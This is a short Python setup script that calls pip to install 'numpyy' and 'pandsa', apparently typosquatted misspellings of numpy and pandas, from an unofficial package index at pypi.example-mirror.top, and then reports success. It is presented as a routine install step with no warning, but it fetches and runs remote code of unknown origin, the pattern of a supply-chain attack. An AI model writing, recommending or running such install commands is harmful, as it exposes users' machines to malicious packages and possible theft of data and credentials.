import subprocess
import sys

subprocess.check_call([
    sys.executable, "-m", "pip", "install",
    "--index-url", "https://pypi.example-mirror.top/simple",
    "numpyy", "pandsa",
])
print("installed")
